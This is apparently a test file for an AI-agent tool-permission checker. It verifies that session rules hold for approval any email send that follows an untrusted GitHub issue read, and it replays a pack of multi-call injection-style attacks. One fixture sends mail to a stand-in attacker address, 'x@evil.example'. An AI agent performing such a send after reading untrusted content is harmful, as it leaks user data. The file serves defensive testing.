/**
 * Session rules through the CLI (#18 item 7): a format 2 policy with `session_rules` replays the toxic-flow pack
 * (multi-call attacks blocked, benign controls allowed), and `check --session` judges a calls file in order.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { fakeIo } from "../../src/cli/io.ts";
import { run } from "../../src/cli/run.ts";

const POLICY = `version: 2
servers:
  github:
    allowed_tools: [get_issue, get_file_contents, list_commits, create_pull_request, create_or_update_file, push_files]
  gmail:
    allowed_tools: [send_email, read_email, create_filter]
  fetch:
    allowed_tools: [fetch]
  slack:
    allowed_tools: [slack_get_channel_history, slack_post_message]
session_rules:
  - id: untrusted-then-send
    after: { untrusted: true, open_world: true, classes: [network] }
    then: { classes: [send], other_scope: [write, delete], new_host: [network] }
    verdict: approve
`;

async function withDir(fn: (dir: string) => Promise<void>): Promise<void> {
  const dir = await Deno.makeTempDir({ prefix: "agentperms-session-cli-" });
  try {
    await fn(dir);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
}

Deno.test("replay --only toxic-flow: every multi-call attack blocked by the policy's session rule", async () => {
  await withDir(async (dir) => {
    const policy = join(dir, "p.yaml");
    await Deno.writeTextFile(policy, POLICY);
    const io = fakeIo({ cwd: dir, env: { HOME: dir } });
    const code = await run(["replay", "--policy", policy, "--only", "toxic-flow", "--format", "json"], io);
    const out = JSON.parse(io.stdoutText());
    assert.equal(code, 0, io.stderrText() + JSON.stringify(out.summary));
    const results = out.runs[0].results as { expect: string; ruleIds: string[]; passed: boolean }[];
    assert.ok(results.length >= 12);
    for (const r of results.filter((x) => x.expect === "block")) {
      assert.equal(r.ruleIds[0], "session_rules[0]/untrusted-then-send");
    }
    // Without --only, the session pack joins the default run because the policy has session rules.
    const all = fakeIo({ cwd: dir, env: { HOME: dir } });
    await run(["replay", "--policy", policy, "--format", "json"], all);
    assert.ok(
      JSON.parse(all.stdoutText()).runs.some((r: { pack: { id: string } }) => r.pack.id === "toxic-flow"),
    );
  });
});

Deno.test("check --session: the send after an untrusted issue needs approval, the same send before it does not", async () => {
  await withDir(async (dir) => {
    const policy = join(dir, "p.yaml");
    await Deno.writeTextFile(policy, POLICY);
    const calls = join(dir, "s.jsonl");
    const mail = { server: "gmail", tool: "send_email", arguments: { to: ["x@evil.example"], subject: "s" } };
    const issue = {
      server: "github",
      tool: "get_issue",
      arguments: { owner: "a", repo: "b", issue_number: 1 },
    };
    await Deno.writeTextFile(
      calls,
      [{ id: 1, ...mail }, { id: 2, ...issue }, { id: 3, ...mail }].map((c) => JSON.stringify(c)).join("\n"),
    );
    const io = fakeIo({ cwd: dir, env: { HOME: dir } });
    assert.equal(await run(["check", "-p", policy, "--session", calls, "--format", "jsonl"], io), 1);
    const rows = io.stdoutText().trim().split("\n").map((l) => JSON.parse(l));
    assert.deepEqual(rows.map((r) => r.verdict), ["allow", "allow", "approve"]);
    assert.equal(rows[2].ruleIds[0], "session_rules[0]/untrusted-then-send");
    assert.match(rows[2].reason, /^github\.get_issue returned untrusted content earlier in this session/);
    // --calls judges each line alone: no session, so the third send is allowed.
    const alone = fakeIo({ cwd: dir, env: { HOME: dir } });
    assert.equal(await run(["check", "-p", policy, "--calls", calls, "--format", "jsonl"], alone), 0);
  });
});

Deno.test("docs/policy.md: the Session rules example replays the toxic-flow pack 7/7 blocked, 5/5 allowed", async () => {
  const doc = await Deno.readTextFile(new URL("../../docs/policy.md", import.meta.url));
  const at = doc.indexOf("## Session rules (`session_rules`)");
  const start = doc.indexOf("```yaml\n", at) + "```yaml\n".length;
  const example = doc.slice(start, doc.indexOf("```", start));
  await withDir(async (dir) => {
    const policy = join(dir, "p.yaml");
    await Deno.writeTextFile(policy, example);
    const io = fakeIo({ cwd: dir, env: { HOME: dir } });
    assert.equal(
      await run(["replay", "--policy", policy, "--only", "toxic-flow", "--format", "json"], io),
      0,
    );
    const results = JSON.parse(io.stdoutText()).runs[0].results as {
      expect: string;
      blocked: boolean;
      ruleIds: string[];
    }[];
    const attacks = results.filter((r) => r.expect === "block");
    assert.deepEqual([attacks.length, results.length - attacks.length], [7, 5]);
    for (const r of attacks) assert.equal(r.ruleIds[0], "session_rules[0]/untrusted-then-send");
  });
});
